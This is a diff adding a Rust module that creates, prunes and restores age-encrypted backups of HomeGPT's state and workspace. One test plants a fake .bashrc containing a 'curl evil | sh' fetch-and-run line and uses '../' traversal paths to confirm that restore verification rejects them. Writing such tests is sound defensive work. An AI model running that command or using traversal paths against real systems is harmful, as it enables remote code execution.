@@ -0,0 +1,860 @@
+//! Encrypted backups of everything HomeGPT keeps: the state dir (config,
+//! sessions, memory index, ...) and the workspace.
+//!
+//! A backup is a zstd-compressed tarball encrypted with age, named
+//! `homegpt-YYYYMMDD-HHMMSS.tar.zst.age`:
+//!
+//! ```text
+//! state/...        ~/.homegpt, without logs, memory snapshots or the backup key
+//! workspace/...    the workspace, git history included
+//! memory/...       the index directory, when it isn't in the state dir
+//! manifest.json    where each root was, and the SHA-256 of every file
+//! ```
+//!
+//! SQLite databases are copied with the backup API, so a backup taken while
+//! the daemon runs is consistent. Backups go to a directory (another disk,
+//! or a mounted SMB share) or an S3-compatible bucket; the daemon makes one
+//! every `backup.interval` and keeps the newest `backup.keep`.
+
+mod s3;
+
+use age::secrecy::{ExposeSecret, SecretString};
+use anyhow::{Context, Result};
+use chrono::NaiveDateTime;
+use rusqlite::{Connection, DatabaseName};
+use serde::{Deserialize, Serialize};
+use std::fs::{self, File};
+use std::io::{BufReader, BufWriter, Read};
+use std::path::{Path, PathBuf};
+use std::str::FromStr;
+use std::time::Duration;
+use tracing::{info, warn};
+
+use crate::agent::get_state_dir;
+use crate::config::{parse_duration, BackupConfig, Config};
+use crate::locale;
+use crate::memory::{ArchiveFile, MemoryManager};
+use s3::S3Bucket;
+
+/// `format` field of every manifest
+pub const BACKUP_FORMAT: &str = "homegpt-backup";
+/// Newest backup version this build can restore
+pub const BACKUP_VERSION: u32 = 1;
+
+/// Identity written by `homegpt backup keygen`, tried first when restoring
+pub const KEY_FILE: &str = "backup-key.txt";
+
+const NAME_PREFIX: &str = "homegpt-";
+const NAME_SUFFIX: &str = ".tar.zst.age";
+const NAME_TIME_FORMAT: &str = "%Y%m%d-%H%M%S";
+const MANIFEST_NAME: &str = "manifest.json";
+
+/// Backups are built (and downloads decrypted) here, in the state dir
+const STAGING_DIR: &str = "backup-staging";
+
+/// State dir entries that aren't backed up
+const SKIPPED: &[&str] = &[
+    "logs",
+    "memory/snapshots",
+    STAGING_DIR,
+    KEY_FILE,
+    "daemon.pid",
+];
+
+/// How often the daemon checks whether a backup is due
+const CHECK_INTERVAL: Duration = Duration::from_secs(60 * 60);
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BackupManifest {
+    pub format: String,
+    pub version: u32,
+    /// homegpt version that wrote the backup
+    pub homegpt_version: String,
+    pub created_at: String,
+    pub roots: Vec<BackupRoot>,
+    /// Every file, as `<root>/<path>`
+    pub files: Vec<ArchiveFile>,
+}
+
+/// A directory in the backup: "state", "workspace" or "memory"
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BackupRoot {
+    pub name: String,
+    /// Where it was when backed up
+    pub path: PathBuf,
+}
+
+#[derive(Debug, Clone)]
+pub struct BackupInfo {
+    pub name: String,
+    pub created: NaiveDateTime,
+    pub size: u64,
+}
+
+#[derive(Debug)]
+pub struct RestoreReport {
+    pub name: String,
+    pub created_at: String,
+    pub files: usize,
+    /// Where each root was restored to
+    pub roots: Vec<BackupRoot>,
+}
+
+/// Where backups are kept
+enum Destination {
+    Dir(PathBuf),
+    S3(S3Bucket),
+}
+
+impl Destination {
+    fn from_config(config: &BackupConfig) -> Result<Self> {
+        let Some(ref destination) = config.destination else {
+            anyhow::bail!("Set backup.destination to a directory or s3://bucket/prefix");
+        };
+        match destination.strip_prefix("s3://") {
+            Some(rest) => {
+                let Some(ref s3) = config.s3 else {
+                    anyhow::bail!("backup.destination is a bucket; set [backup.s3] too");
+                };
+                let (bucket, prefix) = rest.split_once('/').unwrap_or((rest, ""));
+                Ok(Self::S3(S3Bucket::new(s3, bucket, prefix)?))
+            }
+            None => Ok(Self::Dir(PathBuf::from(
+                shellexpand::tilde(destination).to_string(),
+            ))),
+        }
+    }
+
+    async fn list(&self) -> Result<Vec<(String, u64)>> {
+        match self {
+            Self::Dir(dir) => {
+                let Ok(entries) = fs::read_dir(dir) else {
+                    return Ok(Vec::new());
+                };
+                Ok(entries
+                    .filter_map(|e| e.ok())
+                    .filter_map(|e| {
+                        let size = e.metadata().ok()?.len();
+                        Some((e.file_name().to_string_lossy().to_string(), size))
+                    })
+                    .collect())
+            }
+            Self::S3(bucket) => bucket.list().await,
+        }
+    }
+
+    async fn put(&self, name: &str, path: &Path) -> Result<()> {
+        match self {
+            Self::Dir(dir) => {
+                fs::create_dir_all(dir)
+                    .with_context(|| format!("Failed to create {}", dir.display()))?;
+                // Copied under a temporary name so a half-written backup
+                // is never listed
+                let partial = dir.join(format!("{}.partial", name));
+                fs::copy(path, &partial)?;
+                File::open(&partial)?.sync_all()?;
+                fs::rename(&partial, dir.join(name))?;
+                Ok(())
+            }
+            Self::S3(bucket) => bucket.put(name, path).await,
+        }
+    }
+
+    async fn get(&self, name: &str, path: &Path) -> Result<()> {
+        match self {
+            Self::Dir(dir) => {
+                fs::copy(dir.join(name), path)?;
+                Ok(())
+            }
+            Self::S3(bucket) => bucket.get(name, path).await,
+        }
+    }
+
+    async fn delete(&self, name: &str) -> Result<()> {
+        match self {
+            Self::Dir(dir) => Ok(fs::remove_file(dir.join(name))?),
+            Self::S3(bucket) => bucket.delete(name).await,
+        }
+    }
+}
+
+/// Backups of one profile's state dir and workspace
+pub struct Backups {
+    config: BackupConfig,
+    state_dir: PathBuf,
+    roots: Vec<BackupRoot>,
+    destination: Destination,
+}
+
+impl Backups {
+    pub fn new(config: &Config, agent_id: &str) -> Result<Self> {
+        let state_dir = get_state_dir()?;
+        let (workspace, db_path) = MemoryManager::storage_paths(&config.memory, agent_id)?;
+        let mut roots = vec![
+            BackupRoot {
+                name: "state".to_string(),
+                path: state_dir.clone(),
+            },
+            BackupRoot {
+                name: "workspace".to_string(),
+                path: workspace.clone(),
+            },
+        ];
+        if let Some(db_dir) = db_path.parent() {
+            if !db_dir.starts_with(&state_dir) && !db_dir.starts_with(&workspace) {
+                roots.push(BackupRoot {
+                    name: "memory".to_string(),
+                    path: db_dir.to_path_buf(),
+                });
+            }
+        }
+        Ok(Self {
+            config: config.backup.clone(),
+            state_dir,
+            roots,
+            destination: Destination::from_config(&config.backup)?,
+        })
+    }
+
+    /// Back up now, upload, and prune old backups
+    pub async fn create(&self) -> Result<BackupInfo> {
+        let recipients = recipients(&self.config)?;
+        let created = locale::now().naive_local();
+        let name = format!(
+            "{}{}{}",
+            NAME_PREFIX,
+            created.format(NAME_TIME_FORMAT),
+            NAME_SUFFIX
+        );
+        let staging = self.state_dir.join(STAGING_DIR);
+        fs::create_dir_all(&staging)?;
+        let archive = staging.join(&name);
+
+        let roots = self.roots.clone();
+        let (task_staging, task_archive) = (staging.clone(), archive.clone());
+        let written = tokio::task::spawn_blocking(move || {
+            write_backup(&roots, &task_staging, &task_archive, recipients)
+        })
+        .await?;
+        let uploaded = match written {
+            Ok(_) => self.destination.put(&name, &archive).await,
+            Err(e) => Err(e),
+        };
+        let size = fs::metadata(&archive).map(|m| m.len()).unwrap_or(0);
+        if let Err(e) = fs::remove_file(&archive) {
+            warn!("Failed to remove staged backup: {}", e);
+        }
+        uploaded.context("Backup failed")?;
+        info!("Backed up to {} ({} bytes)", name, size);
+
+        let pruned = self.prune().await?;
+        if pruned > 0 {
+            info!("Pruned {} old backups", pruned);
+        }
+        Ok(BackupInfo {
+            name,
+            created,
+            size,
+        })
+    }
+
+    /// Every backup at the destination, newest first
+    pub async fn list(&self) -> Result<Vec<BackupInfo>> {
+        let mut backups: Vec<BackupInfo> = self
+            .destination
+            .list()
+            .await?
+            .into_iter()
+            .filter_map(|(name, size)| {
+                let time = name.strip_prefix(NAME_PREFIX)?.strip_suffix(NAME_SUFFIX)?;
+                let created = NaiveDateTime::parse_from_str(time, NAME_TIME_FORMAT).ok()?;
+                Some(BackupInfo {
+                    name,
+                    created,
+                    size,
+                })
+            })
+            .collect();
+        backups.sort_by_key(|b| std::cmp::Reverse(b.created));
+        Ok(backups)
+    }
+
+    /// The backup `name` names, or the only one it's a prefix of (with or
+    /// without `homegpt-`); "latest" is the newest
+    pub async fn find(&self, name: &str) -> Result<BackupInfo> {
+        let backups = self.list().await?;
+        if name == "latest" {
+            return backups
+                .into_iter()
+                .next()
+                .ok_or_else(|| anyhow::anyhow!("No backups yet"));
+        }
+        let matches: Vec<BackupInfo> = backups
+            .into_iter()
+            .filter(|b| {
+                b.name.starts_with(name)
+                    || b.name
+                        .strip_prefix(NAME_PREFIX)
+                        .is_some_and(|n| n.starts_with(name))
+            })
+            .collect();
+        match matches.len() {
+            0 => anyhow::bail!("No backup '{}' (see `homegpt backup list`)", name),
+            1 => Ok(matches.into_iter().next().unwrap()),
+            n => anyhow::bail!("'{}' matches {} backups; give more of the name", name, n),
+        }
+    }
+
+    /// Delete all but the newest `backup.keep` backups, returning how many
+    /// were deleted
+    pub async fn prune(&self) -> Result<usize> {
+        if self.config.keep == 0 {
+            return Ok(0);
+        }
+        let old: Vec<BackupInfo> = self
+            .list()
+            .await?
+            .into_iter()
+            .skip(self.config.keep)
+            .collect();
+        for backup in &old {
+            self.destination.delete(&backup.name).await?;
+        }
+        Ok(old.len())
+    }
+
+    /// Whether the newest backup is older than `backup.interval`
+    pub async fn is_due(&self) -> Result<bool> {
+        let interval = parse_duration(&self.config.interval)
+            .map_err(|e| anyhow::anyhow!("Invalid backup.interval: {}", e))?;
+        let Some(newest) = self.list().await?.into_iter().next() else {
+            return Ok(true);
+        };
+        let age = locale::now().naive_local() - newest.created;
+        Ok(age.to_std().unwrap_or_default() >= interval)
+    }
+
+    /// Restore backup `name`: into `to` if given (each root in a
+    /// subdirectory), otherwise over the current state dir and workspace.
+    /// Files the backup doesn't have are left alone. `identity` is an age
+    /// identity file; without it the keygen key and `backup.passphrase`
+    /// are tried. The daemon must not be running for an in-place restore.
+    pub async fn restore(
+        &self,
+        name: &str,
+        identity: Option<&Path>,
+        to: Option<&Path>,
+    ) -> Result<RestoreReport> {
+        let backup = self.find(name).await?;
+        let identities = identities(&self.config, identity, &self.state_dir)?;
+        let staging = self
+            .state_dir
+            .join(STAGING_DIR)
+            .join(format!("restore-{}", std::process::id()));
+        fs::create_dir_all(&staging)?;
+        let archive = staging.join(&backup.name);
+
+        let result = async {
+            self.destination.get(&backup.name, &archive).await?;
+            let unpacked = staging.join("unpacked");
+            let (task_archive, task_unpacked) = (archive.clone(), unpacked.clone());
+            let manifest = tokio::task::spawn_blocking(move || {
+                unpack(&task_archive, &task_unpacked, identities)?;
+                verify(&task_unpacked)
+            })
+            .await??;
+
+            let roots: Vec<BackupRoot> = manifest
+                .roots
+                .iter()
+                .map(|root| BackupRoot {
+                    name: root.name.clone(),
+                    path: match to {
+                        Some(to) => to.join(&root.name),
+                        None => self
+                            .roots
+                            .iter()
+                            .find(|r| r.name == root.name)
+                            .map(|r| r.path.clone())
+                            .unwrap_or_else(|| root.path.clone()),
+                    },
+                })
+                .collect();
+            install(&unpacked, &manifest, &roots)?;
+            Ok::<_, anyhow::Error>(RestoreReport {
+                name: backup.name.clone(),
+                created_at: manifest.created_at.clone(),
+                files: manifest.files.len(),
+                roots,
+            })
+        }
+        .await;
+
+        if let Err(e) = fs::remove_dir_all(&staging) {
+            warn!("Failed to remove restore staging dir: {}", e);
+        }
+        let report = result?;
+        info!("Restored backup {}", report.name);
+        Ok(report)
+    }
+}
+
+/// Back up every `backup.interval` until the daemon stops
+pub async fn run_backups(config: &Config, agent_id: &str) -> Result<()> {
+    let backups = Backups::new(config, agent_id)?;
+    // Fail at startup rather than at the first backup
+    recipients(&config.backup)?;
+    loop {
+        match backups.is_due().await {
+            Ok(true) => {
+                if let Err(e) = backups.create().await {
+                    tracing::error!("Scheduled backup failed: {:#}", e);
+                }
+            }
+            Ok(false) => {}
+            Err(e) => warn!("Could not check the last backup: {:#}", e),
+        }
+        tokio::time::sleep(CHECK_INTERVAL).await;
+    }
+}
+
+/// Write a new age identity to `path` (readable only by the owner) and
+/// return its public key, for `backup.recipients`
+pub fn generate_key(path: &Path) -> Result<String> {
+    if path.exists() {
+        anyhow::bail!(
+            "{} already exists; backups made with it need it to restore",
+            path.display()
+        );
+    }
+    let identity = age::x25519::Identity::generate();
+    let recipient = identity.to_public().to_string();
+    let contents = format!(
+        "# created: {}\n# public key: {}\n{}\n",
+        locale::now().to_rfc3339(),
+        recipient,
+        identity.to_string().expose_secret()
+    );
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    fs::write(path, contents)?;
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        fs::set_permissions(path, fs::Permissions::from_mode(0o600))?;
+    }
+    Ok(recipient)
+}
+
+/// Where `homegpt backup keygen` writes the identity
+pub fn key_path() -> Result<PathBuf> {
+    Ok(get_state_dir()?.join(KEY_FILE))
+}
+
+/// Who a new backup is encrypted to: the configured age recipients, or the
+/// passphrase
+fn recipients(config: &BackupConfig) -> Result<Vec<Box<dyn age::Recipient + Send>>> {
+    if !config.recipients.is_empty() {
+        return config
+            .recipients
+            .iter()
+            .map(|r| {
+                age::x25519::Recipient::from_str(r.trim())
+                    .map(|r| Box::new(r) as Box<dyn age::Recipient + Send>)
+                    .map_err(|e| anyhow::anyhow!("Invalid backup recipient '{}': {}", r, e))
+            })
+            .collect();
+    }
+    match config.passphrase {
+        Some(ref passphrase) if !passphrase.is_empty() => Ok(vec![Box::new(
+            age::scrypt::Recipient::new(SecretString::from(passphrase.clone())),
+        )]),
+        _ => anyhow::bail!(
+            "Backups are encrypted: set backup.recipients (see `homegpt backup keygen`) or backup.passphrase"
+        ),
+    }
+}
+
+/// What can decrypt a backup: `identity_file`, else the keygen key and
+/// the passphrase, whichever are there
+fn identities(
+    config: &BackupConfig,
+    identity_file: Option<&Path>,
+    state_dir: &Path,
+) -> Result<Vec<Box<dyn age::Identity + Send>>> {
+    let mut identities: Vec<Box<dyn age::Identity + Send>> = Vec::new();
+    let key_file = state_dir.join(KEY_FILE);
+    let file = identity_file.or(key_file.exists().then_some(key_file.as_path()));
+    if let Some(file) = file {
+        let contents = fs::read_to_string(file)
+            .with_context(|| format!("Failed to read {}", file.display()))?;
+        for line in contents.lines().map(str::trim) {
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            let identity = age::x25519::Identity::from_str(line).map_err(|e| {
+                anyhow::anyhow!("{} isn't an age identity file: {}", file.display(), e)
+            })?;
+            identities.push(Box::new(identity));
+        }
+    }
+    if let Some(ref passphrase) = config.passphrase {
+        if !passphrase.is_empty() {
+            identities.push(Box::new(age::scrypt::Identity::new(SecretString::from(
+                passphrase.clone(),
+            ))));
+        }
+    }
+    if identities.is_empty() {
+        anyhow::bail!(
+            "Nothing to decrypt with: pass --identity, or set backup.passphrase if backups use one"
+        );
+    }
+    Ok(identities)
+}
+
+/// Tar, compress and encrypt the roots into `archive`
+fn write_backup(
+    roots: &[BackupRoot],
+    staging: &Path,
+    archive: &Path,
+    recipients: Vec<Box<dyn age::Recipient + Send>>,
+) -> Result<usize> {
+    let encryptor = age::Encryptor::with_recipients(
+        recipients.iter().map(|r| r.as_ref() as &dyn age::Recipient),
+    )?;
+    let file = File::create(archive)?;
+    let encrypted = encryptor.wrap_output(BufWriter::new(file))?;
+    let mut tar = tar::Builder::new(zstd::Encoder::new(encrypted, 0)?);
+
+    let mut files = Vec::new();
+    for root in roots {
+        // Other roots inside this one are backed up under their own name
+        let mut skipped: Vec<PathBuf> = roots
+            .iter()
+            .filter(|r| r.path != root.path && r.path.starts_with(&root.path))
+            .map(|r| r.path.clone())
+            .collect();
+        if root.name == "state" {
+            skipped.extend(SKIPPED.iter().map(|s| root.path.join(s)));
+        } else if root.name == "memory" {
+            skipped.push(root.path.join("snapshots"));
+        }
+
+        let mut relative_paths = Vec::new();
+        collect_files(&root.path, &root.path, &skipped, &mut relative_paths)?;
+        for relative in relative_paths {
+            let path = root.path.join(&relative);
+            let name = format!("{}/{}", root.name, relative);
+            let file = if is_sqlite(&path) {
+                let copy = staging.join("database.sqlite");
+                Connection::open(&path)?
+                    .backup(DatabaseName::Main, &copy, None)
+                    .with_context(|| format!("Failed to copy {}", path.display()))?;
+                let file = append_file(&mut tar, &copy, &name);
+                let _ = fs::remove_file(&copy);
+                file?
+            } else {
+                // Read once, so a file written meanwhile still matches its hash
+                let Ok(data) = fs::read(&path) else {
+                    // Deleted since it was listed
+                    continue;
+                };
+                let mut header = tar::Header::new_gnu();
+                header.set_size(data.len() as u64);
+                header.set_mode(0o644);
+                header.set_cksum();
+                tar.append_data(&mut header, &name, data.as_slice())?;
+                ArchiveFile {
+                    path: name,
+                    sha256: sha256_bytes(&data),
+                    size: data.len() as u64,
+                }
+            };
+            files.push(file);
+        }
+    }
+
+    let count = files.len();
+    let manifest = BackupManifest {
+        format: BACKUP_FORMAT.to_string(),
+        version: BACKUP_VERSION,
+        homegpt_version: env!("CARGO_PKG_VERSION").to_string(),
+        created_at: locale::now().to_rfc3339(),
+        roots: roots.to_vec(),
+        files,
+    };
+    let manifest_json = serde_json::to_vec_pretty(&manifest)?;
+    let mut header = tar::Header::new_gnu();
+    header.set_size(manifest_json.len() as u64);
+    header.set_mode(0o644);
+    header.set_cksum();
+    tar.append_data(&mut header, MANIFEST_NAME, manifest_json.as_slice())?;
+
+    let encrypted = tar.into_inner()?.finish()?;
+    let writer = encrypted.finish()?;
+    writer
+        .into_inner()
+        .map_err(|e| e.into_error())?
+        .sync_all()?;
+    Ok(count)
+}
+
+/// Append the file at `path` as `name`, hashing it as it's read
+fn append_file<W: std::io::Write>(
+    tar: &mut tar::Builder<W>,
+    path: &Path,
+    name: &str,
+) -> Result<ArchiveFile> {
+    use sha2::{Digest, Sha256};
+    let mut hasher = Sha256::new();
+    std::io::copy(&mut BufReader::new(File::open(path)?), &mut hasher)?;
+    tar.append_path_with_name(path, name)?;
+    Ok(ArchiveFile {
+        path: name.to_string(),
+        sha256: format!("{:x}", hasher.finalize()),
+        size: fs::metadata(path)?.len(),
+    })
+}
+
+fn collect_files(
+    root: &Path,
+    dir: &Path,
+    skipped: &[PathBuf],
+    files: &mut Vec<String>,
+) -> Result<()> {
+    for entry in fs::read_dir(dir)? {
+        let entry = entry?;
+        let path = entry.path();
+        if skipped.contains(&path) {
+            continue;
+        }
+        let name = entry.file_name().to_string_lossy().to_string();
+        let file_type = entry.file_type()?;
+        if file_type.is_dir() {
+            collect_files(root, &path, skipped, files)?;
+        } else if file_type.is_file()
+            // Folded into the database by the backup API
+            && !name.ends_with("-wal")
+            && !name.ends_with("-shm")
+            && !name.ends_with("-journal")
+        {
+            let parts: Vec<String> = path
+                .strip_prefix(root)?
+                .components()
+                .map(|c| c.as_os_str().to_string_lossy().to_string())
+                .collect();
+            files.push(parts.join("/"));
+        }
+    }
+    Ok(())
+}
+
+fn is_sqlite(path: &Path) -> bool {
+    let mut magic = [0u8; 16];
+    File::open(path)
+        .and_then(|mut f| f.read_exact(&mut magic))
+        .is_ok()
+        && &magic == b"SQLite format 3\0"
+}
+
+fn unpack(
+    archive: &Path,
+    unpacked: &Path,
+    identities: Vec<Box<dyn age::Identity + Send>>,
+) -> Result<()> {
+    let file =
+        File::open(archive).with_context(|| format!("Failed to open {}", archive.display()))?;
+    let decryptor = age::Decryptor::new_buffered(BufReader::new(file))?;
+    let decrypted = decryptor
+        .decrypt(identities.iter().map(|i| i.as_ref() as &dyn age::Identity))
+        .context("Failed to decrypt the backup (wrong key or passphrase?)")?;
+    // Entries with absolute or `..` paths are skipped by unpack
+    tar::Archive::new(zstd::Decoder::new(decrypted)?)
+        .unpack(unpacked)
+        .context("Failed to unpack the backup")
+}
+
+/// Check the manifest and every file's hash in an unpacked backup
+fn verify(unpacked: &Path) -> Result<BackupManifest> {
+    let manifest: BackupManifest = serde_json::from_slice(
+        &fs::read(unpacked.join(MANIFEST_NAME)).context("Backup has no manifest")?,
+    )
+    .context("Backup manifest is invalid")?;
+    if manifest.format != BACKUP_FORMAT {
+        anyhow::bail!("Not a HomeGPT backup (format '{}')", manifest.format);
+    }
+    if manifest.version > BACKUP_VERSION {
+        anyhow::bail!(
+            "Backup version {} is newer than this homegpt supports ({}); upgrade first",
+            manifest.version,
+            BACKUP_VERSION
+        );
+    }
+    for file in &manifest.files {
+        use sha2::{Digest, Sha256};
+        // `..` or absolute paths would be restored outside the roots
+        let relative = Path::new(&file.path);
+        if relative.as_os_str().is_empty()
+            || !relative
+                .components()
+                .all(|c| matches!(c, std::path::Component::Normal(_)))
+        {
+            anyhow::bail!("Backup is damaged: unsafe path {}", file.path);
+        }
+        let path = unpacked.join(relative);
+        let mut hasher = Sha256::new();
+        let copied =
+            File::open(&path).and_then(|f| std::io::copy(&mut BufReader::new(f), &mut hasher));
+        if copied.is_err() || format!("{:x}", hasher.finalize()) != file.sha256 {
+            anyhow::bail!("Backup is damaged: {} doesn't match its hash", file.path);
+        }
+    }
+    Ok(manifest)
+}
+
+/// Copy the unpacked files over each root's destination
+fn install(unpacked: &Path, manifest: &BackupManifest, roots: &[BackupRoot]) -> Result<()> {
+    for file in &manifest.files {
+        let Some((root, relative)) = file.path.split_once('/') else {
+            continue;
+        };
+        let Some(root) = roots.iter().find(|r| r.name == root) else {
+            continue;
+        };
+        let target = root.path.join(relative);
+        if let Some(parent) = target.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        // A stale write-ahead log would be replayed into the restored database
+        for suffix in ["-wal", "-shm"] {
+            let mut side = target.clone().into_os_string();
+            side.push(suffix);
+            let _ = fs::remove_file(PathBuf::from(side));
+        }
+        fs::copy(unpacked.join(&file.path), &target)
+            .with_context(|| format!("Failed to restore {}", target.display()))?;
+    }
+    Ok(())
+}
+
+fn sha256_bytes(bytes: &[u8]) -> String {
+    use sha2::{Digest, Sha256};
+    format!("{:x}", Sha256::digest(bytes))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[tokio::test]
+    async fn test_backup_and_restore() -> Result<()> {
+        let dir = TempDir::new()?;
+        let state = dir.path().join("state");
+        let workspace = state.join("workspace");
+        fs::create_dir_all(workspace.join("memory"))?;
+        fs::create_dir_all(state.join("logs"))?;
+        fs::create_dir_all(state.join("agents/main/sessions"))?;
+        fs::write(workspace.join("MEMORY.md"), "Spare key is with Sam.\n")?;
+        fs::write(state.join("agents/main/sessions/s1.jsonl"), "{}\n")?;
+        fs::write(state.join("logs/homegpt-2026-01-01.log"), "noise")?;
+        {
+            let conn = Connection::open(state.join("index.sqlite"))?;
+            conn.execute_batch(
+                "PRAGMA journal_mode=WAL; CREATE TABLE chunks (id TEXT); INSERT INTO chunks VALUES ('a');",
+            )?;
+        }
+
+        let key = state.join(KEY_FILE);
+        let recipient = generate_key(&key)?;
+        let config = BackupConfig {
+            destination: Some(dir.path().join("backups").to_string_lossy().to_string()),
+            recipients: vec![recipient],
+            keep: 1,
+            ..BackupConfig::default()
+        };
+        let backups = Backups {
+            destination: Destination::from_config(&config)?,
+            config,
+            state_dir: state.clone(),
+            roots: vec![
+                BackupRoot {
+                    name: "state".to_string(),
+                    path: state.clone(),
+                },
+                BackupRoot {
+                    name: "workspace".to_string(),
+                    path: workspace.clone(),
+                },
+            ],
+        };
+
+        let backup = backups.create().await?;
+        assert_eq!(backups.list().await?.len(), 1);
+        assert!(!backups.is_due().await?);
+
+        let restored = dir.path().join("restored");
+        let report = backups
+            .restore(
+                &backup.name[NAME_PREFIX.len()..][..8],
+                None,
+                Some(&restored),
+            )
+            .await?;
+        assert_eq!(
+            fs::read_to_string(restored.join("workspace/MEMORY.md"))?,
+            "Spare key is with Sam.\n"
+        );
+        assert!(restored
+            .join("state/agents/main/sessions/s1.jsonl")
+            .exists());
+        // Logs, the key and the nested workspace aren't in the state root
+        assert!(!restored.join("state/logs").exists());
+        assert!(!restored.join("state").join(KEY_FILE).exists());
+        assert!(!restored.join("state/workspace").exists());
+        let chunks: i64 = Connection::open(restored.join("state/index.sqlite"))?.query_row(
+            "SELECT COUNT(*) FROM chunks",
+            [],
+            |row| row.get(0),
+        )?;
+        assert_eq!(chunks, 1);
+        assert_eq!(report.files, 3);
+
+        // Without the key it can't be read
+        fs::remove_file(&key)?;
+        assert!(backups
+            .restore("latest", None, Some(&restored))
+            .await
+            .is_err());
+        Ok(())
+    }
+
+    #[test]
+    fn test_verify_rejects_paths_outside_roots() -> Result<()> {
+        let dir = TempDir::new()?;
+        let unpacked = dir.path().join("unpacked");
+        fs::create_dir_all(&unpacked)?;
+        fs::write(dir.path().join(".bashrc"), "curl evil | sh\n")?;
+
+        for path in ["../.bashrc", "workspace/../../.bashrc"] {
+            let manifest = BackupManifest {
+                format: BACKUP_FORMAT.to_string(),
+                version: BACKUP_VERSION,
+                homegpt_version: env!("CARGO_PKG_VERSION").to_string(),
+                created_at: String::new(),
+                roots: Vec::new(),
+                files: vec![ArchiveFile {
+                    path: path.to_string(),
+                    sha256: sha256_bytes(b"curl evil | sh\n"),
+                    size: 15,
+                }],
+            };
+            fs::write(unpacked.join(MANIFEST_NAME), serde_json::to_vec(&manifest)?)?;
+            let err = verify(&unpacked).unwrap_err();
+            assert!(err.to_string().contains("unsafe path"), "{}", err);
+        }
+        Ok(())
+    }
+}